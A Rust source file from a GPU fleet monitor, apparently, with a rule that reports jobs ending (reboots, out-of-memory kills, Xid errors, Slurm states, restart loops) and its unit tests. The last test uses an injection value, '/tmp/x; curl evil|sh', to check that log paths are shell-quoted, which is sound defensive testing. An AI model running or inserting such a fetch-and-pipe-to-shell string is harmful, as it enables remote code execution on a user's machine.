//! Jobs that left their GPUs, and programs that end again and again: job-ended.

use crate::diagnosis::conditions::Conditions;
use crate::diagnosis::finding::{FindingDetails, FindingTarget};
use crate::diagnosis::job_ends::{EndedJob, RESTARTED_REPEATS, Runs};
use crate::diagnosis::rule_context::{RuleContext, duration, gibibytes};
use crate::diagnosis::{RuleId, Severity};
use crate::fleet::{slurm_end_is_failure, slurm_end_text};
use crate::wire::shell::absolute_path;
use crate::wire::{SafeText, SlurmJobEnd};

pub(super) fn evaluate(context: &RuleContext, conditions: &mut Conditions) {
    let t = context.sample_time.t;
    let recently = context.limits.job_ended.coincidence;
    let ends =
        || context.host_track.job_ends.ended.iter().rev().filter(|ended| t - ended.noticed_at <= ENDED_RETENTION);
    for (newer, ended) in ends().enumerate() {
        // Of a job that ran and ended again, the last end counts.
        if ends().take(newer).any(|other| other.job == ended.job) {
            continue;
        }
        // A reboot, and Slurm, tell why a job ended up to some minutes later: the sentence is rewritten.
        if t - ended.missed_at <= recently || ended.by_reboot || slurm_end(context, ended).is_some() {
            job_ended(context, conditions, ended);
        }
    }
}

/// The number of ends in a row from which a program that fails again and again warns, if nothing starts it again.
const LOOP_REPEATS: u32 = 8;
/// How long an ended job is listed, in seconds.
const ENDED_RETENTION: f64 = 600.0;

fn job_ended(context: &RuleContext, conditions: &mut Conditions, ended: &EndedJob) {
    let coincidence = coincidence(context, ended);
    // An Xid has a finding that notifies already.
    let has_failed = slurm_end(context, ended).is_some_and(slurm_end_is_failure);
    let is_loop = match ended.runs {
        // It will run out again.
        _ if was_oom(context, ended) => ended.repeats > 0,
        Runs::Restarted => ended.repeats >= RESTARTED_REPEATS,
        // A script that calls a program for each of many tasks is no loop of failures.
        Runs::Series => false,
        Runs::Unknown => ended.repeats >= LOOP_REPEATS,
    };
    let is_unreported = ended.by_reboot || was_oom(context, ended) || has_failed || is_loop;
    // A root login belongs to an administrator, who looks after the services of the host.
    let is_root = context.host.hello.as_ref().is_some_and(|hello| hello.login_uid == Some(0));
    let concerns_me = ended.is_mine || (is_root && is_loop);
    let severity = if is_unreported && concerns_me { Severity::Warn } else { Severity::Info };
    let stay = ENDED_RETENTION - (context.sample_time.t - ended.noticed_at);
    conditions.event(RuleId::JobEnded, &FindingTarget::Job(ended.job.clone()), severity, stay, || {
        let gap = ended.missed_at - ended.last_seen;
        let when = if gap > 60.0 { format!(" within the last {} without data", duration(gap)) } else { String::new() };
        let ran = ended.age.map_or_else(String::new, |age| format!(" after {}", duration(age)));
        let how = slurm_end(context, ended).map(slurm_end_text);
        let why: String = how.iter().chain(&coincidence).map(|event| format!("; {event}")).collect();
        let again =
            if ended.repeats > 1 { format!(" for the {}th time in a row", ended.repeats) } else { String::new() };
        let gpus = || context.format_gpus(ended.positions.iter().copied());
        let what = match (ended.positions.is_empty(), ended.most_memory) {
            (true, 0) => "it never used a GPU".to_owned(),
            (true, bytes) => format!("it left its GPUs and released {}", gibibytes(bytes)),
            (false, bytes) => format!("it left {} and released {}", gpus(), gibibytes(bytes)),
        };
        let sentence = format!("{} ended{again}{when}{ran}: {what}{why}", ended.label);
        let next = match ended.log_path.as_deref().and_then(absolute_path) {
            Some(path) => format!("tail {path}"),
            None => "read the end of its log".to_owned(),
        };
        FindingDetails {
            sentence,
            next_check: next,
            gpus: context.finding_gpus(ended.positions.iter().copied()),
            job: Some(ended.job.clone()),
            user: ended.user.clone(),
            is_mine: ended.is_mine,
            figures: ended.age.map_or_else(String::new, |age| format!("after {}", duration(age))),
            ..FindingDetails::default()
        }
    });
}

/// How Slurm says that the job ended.
fn slurm_end<'a>(context: &RuleContext<'a>, ended: &EndedJob) -> Option<&'a SlurmJobEnd> {
    context.host.slurm_end(&ended.job)
}

/// Describes an event near the end of a job that may have caused it.
fn coincidence(context: &RuleContext, ended: &EndedJob) -> Option<String> {
    let near = context.limits.job_ended.coincidence;
    let is_near = |at: f64| at >= ended.last_seen - near && at <= ended.missed_at + near;
    if ended.by_reboot {
        return Some("the host was rebooted".to_owned());
    }
    if was_oom(context, ended) {
        return Some("at that time the kernel killed a process because memory ran out".to_owned());
    }
    let on_its_gpus = |identity: &SafeText| {
        let gpus = || ended.positions.iter().filter_map(|position| context.gpus.get(*position));
        *identity == *"?" || gpus().any(|gpu| gpu.identity == *identity)
    };
    let xid = context.host_track.xids.iter().find(|xid| is_near(xid.at) && on_its_gpus(&xid.gpu));
    xid.map(|xid| format!("at that time one of its GPUs reported Xid {}", xid.number))
}

/// Whether the kernel killed a process near the end of a job because memory ran out.
fn was_oom(context: &RuleContext, ended: &EndedJob) -> bool {
    let near = context.limits.job_ended.coincidence;
    let is_near = |at: f64| at >= ended.last_seen - near && at <= ended.missed_at + near;
    context.host_track.oom_events.iter().any(|(at, _)| is_near(*at))
}

#[cfg(test)]
mod tests {
    use crate::diagnosis::testing::{RuleTester, TestSample, trains};
    use crate::fleet::fixture::{TestProcess, gpus, process};
    use crate::wire::{Ancestor, Owner, SlurmJobEnd, XidEvent};

    fn empty(tester: &mut RuleTester) -> TestSample {
        TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![] }
    }

    /// Makes a process the entry of a container.
    fn starts_with_its_container(process: &mut TestProcess) {
        process.facts.owner = Some(Owner::Container { runtime: "docker".into(), id: "lora".into() });
        let shim = Ancestor { pid: 30, uid: Some(0), name: "containerd-shim".into(), ..Ancestor::default() };
        process.facts.ancestors = vec![shim];
    }

    #[test]
    fn an_ended_job_is_listed_for_ten_minutes() {
        let mut tester = RuleTester::new(gpus(0..1));
        tester.run(900.0, |tester, _| trains(tester));
        tester.run(20.0, |tester, _| empty(tester));
        assert_eq!((tester.firing(), tester.notified()), (vec![("job-ended", "info")], 0));
        assert_eq!(
            tester.finding("job-ended").sentence,
            "train.py (alice, pid 7) ended after 3 h 18 min: it left GPU 0 and released 40 GiB"
        );
        tester.run(600.0, |tester, _| empty(tester));
        assert_eq!(tester.firing(), []);
    }

    #[test]
    fn the_end_of_a_slurm_job_has_the_state_that_slurm_tells_later() {
        let mut tester = RuleTester::new(gpus(0..1));
        let trains = |tester: &mut RuleTester, _: f64| {
            let mut sample = trains(tester);
            sample.processes[0].facts.owner = Some(Owner::Slurm { job: "3385".into(), step: None });
            sample
        };
        tester.run(900.0, trains);
        tester.run(90.0, |tester, _| empty(tester));
        let sentence = tester.finding("job-ended").sentence.to_string();
        assert!(sentence.ends_with("it left GPU 0 and released 40 GiB"), "{sentence}");
        let end = |state: &str, job: &str| SlurmJobEnd {
            job: job.into(),
            state: state.into(),
            exit_status: Some(1),
            signal: None,
        };
        let tells = |tester: &mut RuleTester, end: SlurmJobEnd| {
            tester.run_edited(
                20.0,
                |tester, _| empty(tester),
                |snapshot, _| snapshot.host.slurm_ends = vec![end.clone()],
            );
            (tester.finding("job-ended").sentence.to_string(), tester.firing())
        };
        let (other, _) = tells(&mut tester, end("FAILED", "99"));
        assert_eq!(other, sentence, "another job");
        let (text, firing) = tells(&mut tester, end("FAILED", "3385"));
        assert_eq!(text, sentence + "; Slurm: failed with exit status 1");
        assert_eq!(firing, [("job-ended", "warn")], "it is a job of the login user");
        tester.run(600.0, |tester, _| empty(tester));
        assert_eq!(tester.firing(), []);
        let mut tester = RuleTester::new(gpus(0..1));
        tester.run(900.0, trains);
        tester.run(20.0, |tester, _| empty(tester));
        let (text, firing) = tells(&mut tester, end("COMPLETED", "3385"));
        assert!(text.ends_with("; Slurm: completed"), "{text}");
        assert_eq!(firing, [("job-ended", "info")]);
    }

    #[test]
    fn a_job_that_ends_with_a_reboot_warns_and_an_xid_has_its_own_finding() {
        let mut tester = RuleTester::new(gpus(0..1));
        tester.run(900.0, |tester, _| trains(tester));
        tester.run_edited(
            20.0,
            |tester, _| empty(tester),
            |snapshot, _| {
                snapshot.xid_events = vec![XidEvent { gpu: Some(0), xid: 31, monotonic_seconds: 0.0 }];
            },
        );
        assert_eq!(tester.firing(), [("job-ended", "info"), ("xid-seen", "info")]);
        let mut tester = RuleTester::new(gpus(0..1));
        tester.run(900.0, |tester, _| trains(tester));
        tester.reboot(0);
        tester.run(20.0, |tester, _| empty(tester));
        assert_eq!(tester.firing(), [("job-ended", "warn"), ("host-rebooted", "warn")]);
        assert!(tester.finding("job-ended").sentence.ends_with("; the host was rebooted"));
        assert!(tester.finding("host-rebooted").sentence.ends_with("; 1 program on its GPUs ended"));
    }

    #[test]
    fn a_shutdown_ends_the_jobs_of_the_last_minute_before_it() {
        for (before, is_slurm, expected) in [(20.0, false, "warn"), (90.0, false, "info"), (20.0, true, "info")] {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.run(900.0, |tester, _| {
                let mut sample = trains(tester);
                sample.processes[0].facts.owner = is_slurm.then(|| Owner::Slurm { job: "7".into(), step: None });
                sample
            });
            tester.run(before, |tester, _| empty(tester));
            assert_eq!(tester.firing(), [("job-ended", "info")]);
            // A server takes long to boot.
            tester.wait(800.0);
            tester.reboot(0);
            tester.run(20.0, |tester, _| empty(tester));
            // Other ends are no longer listed.
            let ended = if expected == "warn" { &[("job-ended", "warn")][..] } else { &[] };
            let all = [ended, &[("host-rebooted", expected)]].concat();
            assert_eq!(tester.firing(), all, "{before} s before, {is_slurm}");
        }
    }

    #[test]
    fn the_end_of_a_small_job_is_not_reported() {
        let mut tester = RuleTester::new(gpus(0..1));
        let mut small = process(7, "python a.py", &[(0, 0)]);
        small.gpus[0].gpu_memory_bytes = Some(100 << 20);
        tester.run(900.0, |tester, _| TestSample { processes: vec![small.clone()], ..empty(tester) });
        tester.run(20.0, |tester, _| empty(tester));
        assert_eq!(tester.fired(), []);
    }

    #[test]
    fn a_job_that_ended_between_two_runs_is_reported() {
        let mut tester = RuleTester::new(gpus(0..1));
        tester.run(900.0, |tester, _| trains(tester));
        let saved = tester.engine.to_saved_state(&tester.fleet, tester.now());
        let mut next = RuleTester::new(gpus(0..1));
        next.t = tester.t + 7200.0;
        next.engine.restore(saved, next.now());
        next.run(20.0, |tester, _| empty(tester));
        assert_eq!(next.firing(), [("job-ended", "info")]);
        let sentence = next.finding("job-ended").sentence.to_string();
        assert!(sentence.contains("ended within the last 2 h without data"), "{sentence}");
    }

    #[test]
    fn a_program_that_ends_again_and_again_is_listed() {
        let runs = |lengths: [f64; 4]| {
            let mut tester = RuleTester::new(gpus(0..1));
            for (pid, length) in (7..).zip(lengths) {
                tester.run(length, |tester, _| TestSample {
                    gpus: vec![tester.gpu(30, 200.0, 10, 40)],
                    processes: vec![process(pid, "python serve.py", &[(0, 40)])],
                });
                tester.run(30.0, |tester, _| empty(tester));
            }
            tester.fired()
        };
        // The age of a process in these tests is over an hour, so the runs seem equally long.
        assert_eq!(runs([120.0, 130.0, 120.0, 120.0]), [("job-ended", "info")]);
    }

    #[test]
    fn a_program_that_fails_again_and_again_before_it_uses_a_gpu_warns() {
        let fired = |command: &str| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.run(900.0, |tester, _| trains(tester));
            for run in 0..8_u32 {
                tester.run_new(20.0, |tester, _| TestSample {
                    processes: vec![process(8 + run, command, &[])],
                    ..empty(tester)
                });
                tester.run(40.0, |tester, _| empty(tester));
            }
            let ended = tester.finding("job-ended").sentence.to_string();
            (tester.firing(), ended)
        };
        let (firing, sentence) = fired("python train.py --resume");
        assert!(firing.contains(&("job-ended", "warn")), "{firing:?}");
        let end = "ended for the 8th time in a row after 10 s: it never used a GPU";
        assert!(sentence.ends_with(end), "{sentence}");
        assert_eq!(fired("python other.py").0, [("job-ended", "info")], "only the end of the run on the GPU");
    }

    #[test]
    fn a_program_that_looks_for_work_without_a_gpu_now_and_then_warns_once() {
        let mut tester = RuleTester::new(gpus(0..1));
        let mut pid = 10;
        let warned = |tester: &mut RuleTester, pid: &mut u32| {
            let before = tester.transitions.len();
            tester.run(900.0, |tester, _| trains(tester));
            for _ in 0..9 {
                *pid += 1;
                let poll = process(*pid, "python train.py --resume", &[]);
                tester.run_new(20.0, |tester, _| TestSample { processes: vec![poll.clone()], ..empty(tester) });
                tester.run(60.0, |tester, _| empty(tester));
            }
            tester.run(700.0, |tester, _| empty(tester));
            tester.transitions[before..].iter().any(|transition| transition.severity.word() == "warn")
        };
        assert_eq!([warned(&mut tester, &mut pid), warned(&mut tester, &mut pid)], [true, false]);
    }

    #[test]
    fn a_container_that_fails_after_the_same_time_in_each_run_warns() {
        let warned = |lengths: &[f64]| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 10.0;
            for (pid, length) in (7..).zip(lengths) {
                let mut train = process(pid, "python train.py", &[(0, 40)]);
                starts_with_its_container(&mut train);
                tester.run_new(*length, |tester, _| TestSample {
                    gpus: vec![tester.gpu(97, 290.0, 60, 40)],
                    processes: vec![train.clone()],
                });
            }
            tester.run(20.0, |tester, _| empty(tester));
            tester.fired().contains(&("job-ended", "warn"))
        };
        assert!(warned(&[470.0; 5]));
        assert!(
            !warned(&[470.0, 560.0, 440.0, 520.0, 480.0]),
            "it may work through a list, and restart for each entry"
        );
    }

    #[test]
    fn an_orchestrator_that_waits_longer_and_longer_is_listed_too() {
        let fired = |owner: Option<Owner>| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 20.0;
            for run in 0..8_u32 {
                let mut server = process(7 + run, "VLLM::Worker_TP", &[(0, 40)]);
                server.facts.owner = owner.clone();
                tester.run_new(280.0, |tester, _| TestSample {
                    gpus: vec![tester.gpu(0, 68.0, 0, 40)],
                    processes: vec![server.clone()],
                });
                tester.run(700.0, |tester, _| empty(tester));
            }
            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").count()
        };
        let pod = Owner::Pod { uid: "models-llama".into(), container: None };
        assert_eq!(fired(Some(pod)), 2, "listed from the fourth end on, and a warning after the fifth");
        assert_eq!(fired(None), 0, "somebody starts it again");
    }

    #[test]
    fn a_pod_that_fails_again_at_once_warns_after_the_fifth_end_and_a_cronjob_does_not() {
        let fired = |pause: f64, lengths: &[f64]| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 20.0;
            for (run, length) in (0..).zip(lengths) {
                let mut train = process(7 + run, "python train.py", &[(0, 40)]);
                train.facts.owner = Some(Owner::Pod { uid: "team-train".into(), container: None });
                tester.run_new(*length, |tester, _| TestSample {
                    gpus: vec![tester.gpu(20, 168.0, 5, 40)],
                    processes: vec![train.clone()],
                });
                tester.run(pause, |tester, _| empty(tester));
            }
            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").map(|(_, to)| to).collect::<Vec<_>>()
        };
        assert_eq!(fired(140.0, &[200.0; 5]), ["info", "warn"]);
        assert_eq!(fired(140.0, &[60.0, 140.0, 60.0, 140.0, 80.0]), ["info", "warn"], "of different lengths");
        assert_eq!(fired(1500.0, &[200.0; 6]), ["info"], "each half hour");
    }

    #[test]
    fn tasks_of_an_array_that_compute_nothing_and_a_container_that_starts_again_at_once_warn() {
        let fired = |edit: &dyn Fn(u32, &mut TestProcess), pause: f64, utilization: u8| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 10.0;
            for run in 0..9_u32 {
                let mut task = process(7 + run, &format!("python pick.py --task {run}"), &[(0, 1)]);
                edit(run, &mut task);
                tester.run_new(60.0, |tester, _| TestSample {
                    gpus: vec![tester.gpu(utilization, 80.0, 0, 1)],
                    processes: vec![task.clone()],
                });
                tester.run(pause, |tester, _| empty(tester));
            }
            let warned = tester.fired().contains(&("job-ended", "warn"));
            (warned, tester.fired().iter().any(|(rule, _)| *rule == "job-ended"))
        };
        let task = |job: fn(u32) -> u32| {
            move |run: u32, task: &mut TestProcess| {
                task.facts.owner = Some(Owner::Slurm { job: job(run).to_string().as_str().into(), step: None });
            }
        };
        assert_eq!(fired(&task(|run| 100 + run), 30.0, 0), (true, true));
        assert_eq!(fired(&task(|run| 100 + run), 30.0, 60), (false, false), "they compute");
        assert_eq!(fired(&task(|_| 100), 30.0, 0), (false, false), "a script that calls a program for each file");
        let container = |_: u32, task: &mut TestProcess| {
            task.facts.argv = ["python", "train.py"].map(Into::into).to_vec();
            starts_with_its_container(task);
        };
        assert_eq!(fired(&container, 0.0, 30), (true, true), "the next run is there in the same sample");
    }

    #[test]
    fn a_program_that_a_container_engine_or_systemd_starts_again_warns_after_the_fifth_end() {
        let fired_with = |owner: Owner, parent: &str, pause: f64| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 10.0;
            for run in 0..5 {
                let mut train = process(7 + run, "python train.py --resume", &[(0, 40)]);
                train.facts.owner = Some(owner.clone());
                let ancestor = |name: &str| Ancestor {
                    pid: 30 + run,
                    start_ticks: u64::from(run),
                    uid: Some(0),
                    name: name.into(),
                    argv: vec![name.into()],
                };
                train.facts.ancestors = parent.split(" < ").map(ancestor).collect();
                tester.run_new(230.0, |tester, _| TestSample {
                    gpus: vec![tester.gpu(20, 168.0, 5, 40)],
                    processes: vec![train.clone()],
                });
                tester.run(pause, |tester, _| empty(tester));
            }
            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").map(|(_, to)| to).collect::<Vec<_>>()
        };
        let docker = Owner::Container { runtime: "docker".into(), id: "abc".into() };
        let fired = |parent: &str, pause: f64| fired_with(docker.clone(), parent, pause);
        assert_eq!(fired("containerd-shim", 20.0), ["info", "warn"]);
        assert_eq!(fired("containerd-shim", 200.0), ["info"], "somebody starts it again");
        assert_eq!(fired("bash", 20.0), ["info"], "somebody tries it in the container");
        let service = Owner::Service("mae.service".into());
        assert_eq!(fired_with(service.clone(), "systemd", 45.0), ["info", "warn"]);
        assert_eq!(fired_with(service.clone(), "systemd", 200.0), ["info"], "perhaps a timer");
        assert_eq!(fired_with(service.clone(), "torchrun < systemd", 45.0), ["info", "warn"]);
        assert_eq!(fired_with(service.clone(), "queue-worker < systemd", 45.0), ["info"], "one task after the other");
        assert_eq!(fired_with(service, "bash", 45.0), ["info"], "perhaps a script with a list");
    }

    #[test]
    fn a_script_that_works_through_a_list_is_listed_and_a_program_that_fails_at_its_start_warns() {
        let fired = |percent: u8| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 5.0;
            for run in 0..10_u32 {
                tester.run_new(70.0, |tester, _| TestSample {
                    gpus: vec![tester.gpu(percent, 280.0, 10, 40)],
                    processes: vec![process(7 + run, "blender -b scene.py", &[(0, 40)])],
                });
                tester.run(15.0, |tester, _| empty(tester));
            }
            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").map(|(_, to)| to).collect::<Vec<_>>()
        };
        assert_eq!(fired(60), ["info"]);
        assert_eq!(fired(3), ["info", "warn"]);
    }

    #[test]
    fn a_program_for_which_memory_runs_out_again_and_again_warns() {
        let fired = |is_oom: bool| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 20.0;
            for run in 0..5_u32 {
                let mut train = process(7 + run, "python train.py", &[(0, 40)]);
                train.facts.owner = Some(Owner::Pod { uid: "cae".into(), container: None });
                tester.run_edited(
                    720.0,
                    |tester, _| TestSample { gpus: vec![tester.gpu(0, 69.0, 0, 40)], processes: vec![train.clone()] },
                    |snapshot, passed| {
                        snapshot.processes.age_seconds = vec![Some(passed)];
                        snapshot.host.oom_kills = Some(if is_oom { u64::from(run) } else { 0 });
                    },
                );
                tester.run_edited(
                    240.0,
                    |tester, _| empty(tester),
                    |snapshot, _| snapshot.host.oom_kills = Some(if is_oom { u64::from(run) + 1 } else { 0 }),
                );
            }
            tester.fired().into_iter().filter(|(rule, _)| *rule == "job-ended").map(|(_, to)| to).collect::<Vec<_>>()
        };
        assert_eq!(fired(true).last(), Some(&"warn"));
        assert_eq!(fired(false), ["info"], "it may end as it is meant to");
    }

    #[test]
    fn the_runs_of_a_sweep_that_end_beside_another_job_on_a_full_gpu_are_counted_together() {
        let fired = |others_gib: u64| {
            let mut tester = RuleTester::new(gpus(0..1));
            for run in 0..4_u32 {
                let command = format!("python train.py --lr=0.00{run}");
                let notebook = process(5, "python -m ipykernel_launcher", &[(0, others_gib)]);
                tester.run_edited(
                    120.0,
                    |tester, _| TestSample {
                        gpus: vec![tester.gpu(30, 200.0, 10, 30 + others_gib)],
                        processes: vec![notebook.clone(), process(7 + run, &command, &[(0, 30)])],
                    },
                    |snapshot, passed| snapshot.processes.age_seconds = vec![Some(9000.0), Some(passed)],
                );
                tester.run(30.0, |tester, _| TestSample {
                    gpus: vec![tester.gpu(0, 70.0, 0, others_gib)],
                    processes: vec![notebook.clone()],
                });
            }
            tester.fired().contains(&("job-ended", "info"))
        };
        assert!(fired(46), "76 of 80 GiB");
        assert!(!fired(30), "runs that end on a GPU with room");
    }

    #[test]
    fn ranks_that_end_together_are_no_runs_in_a_row() {
        let mut tester = RuleTester::new(gpus(0..8));
        let ranks = |tester: &mut RuleTester, _: f64| {
            let rank = |gpu: u16| process(70 + u32::from(gpu), "python train.py", &[(gpu, 1)]);
            TestSample {
                gpus: (0..8).map(|_| tester.gpu(0, 70.0, 0, 1)).collect(),
                processes: (0..8).map(rank).collect(),
            }
        };
        tester.run_new(100.0, ranks);
        tester.run(60.0, |tester, _| TestSample {
            gpus: (0..8).map(|_| tester.gpu(0, 50.0, 0, 0)).collect(),
            processes: vec![],
        });
        assert_eq!(tester.fired(), []);
    }

    #[test]
    fn long_runs_that_never_load_anything_count_within_six_times_their_length() {
        let runs = |lengths: &[f64]| {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.interval = 20.0;
            for (pid, length) in (7..).zip(lengths.iter().copied()) {
                tester.run_new(length, |tester, _| {
                    let mut waits = process(pid, "python serve.py", &[(0, 0)]);
                    waits.gpus[0].gpu_memory_bytes = Some(430 << 20);
                    TestSample { gpus: vec![tester.gpu(0, 70.0, 0, 0)], processes: vec![waits] }
                });
                tester.run(60.0, |tester, _| empty(tester));
            }
            tester.fired()
        };
        assert_eq!(runs(&[1200.0; 4]), [("job-ended", "info")]);
        assert_eq!(runs(&[1200.0, 3000.0, 1200.0, 1200.0]), [], "somebody tries something");
        assert_eq!(runs(&[60.0; 7]), [("job-ended", "info")]);
        assert_eq!(
            runs(&[60.0; 8]),
            [("job-ended", "info"), ("job-ended", "warn")],
            "nobody tries the same eight times"
        );
    }

    #[test]
    fn the_next_step_quotes_the_path_of_the_log() {
        for (path, next) in [
            ("/home/alice/run.log", "tail /home/alice/run.log"),
            ("/tmp/x; curl evil|sh", "tail '/tmp/x; curl evil|sh'"),
            ("-f", "read the end of its log"),
        ] {
            let mut tester = RuleTester::new(gpus(0..1));
            tester.run(900.0, |tester, _| {
                let mut test_sample = trains(tester);
                test_sample.processes[0].facts.log_path = Some(path.into());
                test_sample
            });
            tester.run(20.0, |tester, _| empty(tester));
            assert_eq!(tester.finding("job-ended").next_check, next);
        }
    }
}
